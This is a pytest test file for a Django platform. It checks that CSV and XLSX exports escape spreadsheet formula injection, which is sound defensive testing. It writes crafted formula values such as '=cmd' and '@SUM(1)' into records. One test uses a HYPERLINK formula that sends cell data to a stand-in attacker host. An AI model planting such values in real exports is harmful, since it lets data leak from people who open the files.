"""CSV and XLSX injection: no file the platform produces carries a cell a spreadsheet would run.

The crawl reuses the authorization matrix's world (tests/platform/test_route_matrix.py), writes
crafted values (`=cmd`, `+1`, `-2+3`, `@SUM(1)`, tab and carriage return first) into every
free-text field of organisations (contacts included), RELESS and bureau, diagnostics and their
rows, interventions and an import's error list, then asks every route of the URLconf for CSV
(`?format=csv`, `Accept: text/csv`, and the routes that answer CSV by themselves: exports, open
data, templates, import errors) as the admin and as commune A's CTD agent. Every cell of every
CSV answer must start with something else than a formula character."""

import csv
import io
import pathlib
import re

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from cooperatives.models import BureauMember, ImportJob, Organisation, Reless
from core import csvsafe
from diagnostics.models import (
    DiagnosticActor,
    DiagnosticEntry,
    Intervention,
    ProjectIdea,
    TerritorialDiagnostic,
    TerritorialResource,
)
from reports.models import ReportRun

from ..platform import test_route_matrix
from ..platform.test_route_matrix import ADMIN, MATRIX, client_of, is_api, url_of, urlconf_routes

pytestmark = pytest.mark.django_db

CRAFTED = ("=cmd", "+1", "-2+3", "@SUM(1)", "\tx", "\rx")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CRAFTED_MODELS = (Organisation, Reless, BureauMember, TerritorialDiagnostic, DiagnosticEntry,
                  DiagnosticActor, TerritorialResource, ProjectIdea, Intervention)
ROOT = pathlib.Path(__file__).resolve().parents[2]
# The matrix's world (built once for the module) and its fresh caches around each test.
world = test_route_matrix.world
_fresh_caches = test_route_matrix._fresh_caches


def _text_fields(model) -> list[str]:
    return [f.name for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices
            and not f.primary_key]


def _craft_everything(w) -> int:
    """Every free-text field of every row of the crafted models, set to a crafted value
    (rotating, and made unique with the row's id); returns how many cells were set."""
    n = 0
    for model in CRAFTED_MODELS:
        fields = _text_fields(model)
        for pk in model.objects.values_list("pk", flat=True):
            values = {}
            for i, name in enumerate(fields):
                values[name] = f"{CRAFTED[(pk + i) % len(CRAFTED)]}{pk}"[
                    :model._meta.get_field(name).max_length or 1000]
            model.objects.filter(pk=pk).update(**values)
            n += len(values)
    ImportJob.objects.filter(pk=w.import_job.pk).update(result={
        "created": [], "updated": [],
        "errors": [[2, crafted, crafted] for crafted in CRAFTED]})
    _recompute_reports(w)
    return n


def _recompute_reports(w) -> None:
    from reports.convergence import convergence_for_commune

    ReportRun.objects.filter(pk=w.run_a.pk).update(
        result=convergence_for_commune(w.commune_a, year=2025))


def _csv_answers(w, role: str):
    """(url, body) of every CSV answer the role gets from the URLconf's GET routes."""
    for name in urlconf_routes():
        route = MATRIX.get(name)
        if route is None or route.get.get(role) != 200:
            continue
        api = is_api(name)
        url = url_of(name, route, w)
        joiner = "&" if "?" in url else "?"
        for target, headers in ((url, {}), (f"{url}{joiner}format=csv", {}),
                                (url, {"HTTP_ACCEPT": "text/csv"})):
            response = client_of(w, role, api).get(target, **headers)
            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
                content = (b"".join(response.streaming_content) if response.streaming
                           else response.content)
                yield target, content.decode("utf-8-sig")


def _unsafe_cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body, newline=""))
            for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("role", [ADMIN, "agent_a"])
def test_it_never_serves_a_formula_in_any_csv(world, role):
    assert _craft_everything(world) > 40
    answers = dict(_csv_answers(world, role))
    crawled = {url.split("?")[0] for url in answers}
    # The crawl reached the registry pages, the API, the exports and the open data.
    assert reverse("organisation_list", kwargs={"pcode": world.commune_a.pcode}) in crawled
    assert reverse("organisation_list_all") in crawled
    assert reverse("api-organisation-list") in crawled
    assert reverse("quality:export_organisations", kwargs={"fmt": "csv"}) in crawled
    assert reverse("quality:open_data_csv") in crawled
    assert reverse("quality:import_errors", kwargs={"pk": world.import_job.pk}) in crawled
    unsafe = {url: cells for url, body in answers.items() if (cells := _unsafe_cells(body))}
    assert unsafe == {}
    everything = "\n".join(answers.values())
    for crafted in CRAFTED:  # the values are there, escaped
        assert "'" + crafted in everything


def test_it_keeps_numbers_as_numbers_and_escapes_text():
    out = io.StringIO()
    csvsafe.writer(out).writerow([-3, -2.5, 0, "-2+3", "+1", "@SUM(1)", "=cmd", "\tx", "\rx",
                                  "a=b", None])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "-3", "-2.5", "0", "'-2+3", "'+1", "'@SUM(1)", "'=cmd", "'\tx", "'\rx", "a=b", ""]


def test_it_writes_every_csv_through_the_one_writer():
    """No `csv.writer` nor `csv.DictWriter` in the application outside core/csvsafe.py."""
    offenders = []
    for app in ("accounts", "communes", "sectors", "cooperatives", "diagnostics",
                "reless_platform"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csvsafe.py" or "migrations" in path.parts:
                continue
            if re.search(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from csv import",
                         path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_it_types_formula_like_text_as_text_in_xlsx_exports(world):
    org = Organisation.objects.filter(pk=world.org_a.pk)
    org.update(name='=HYPERLINK("http://evil.example/?d="&A1,"Open")', contact_name="=cmd")
    client = client_of(world, ADMIN, api=False)
    response = client.get(reverse("quality:export_organisations", kwargs={"fmt": "xlsx"}))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert sorted(c.value for c in cells) == [
        '=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=cmd"]
    assert {c.data_type for c in cells} == {"s"}


def test_it_types_formula_like_names_as_text_in_xlsx_templates(world):
    world.cassava.__class__.objects.filter(pk=world.cassava.pk).update(name_fr="=cmd")
    client = client_of(world, ADMIN, api=False)
    response = client.get(reverse("quality:import_template", kwargs={"fmt": "xlsx"}))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for row in workbook["filieres"].iter_rows() for c in row if c.value == "=cmd"]
    assert [c.data_type for c in cells] == ["s"]
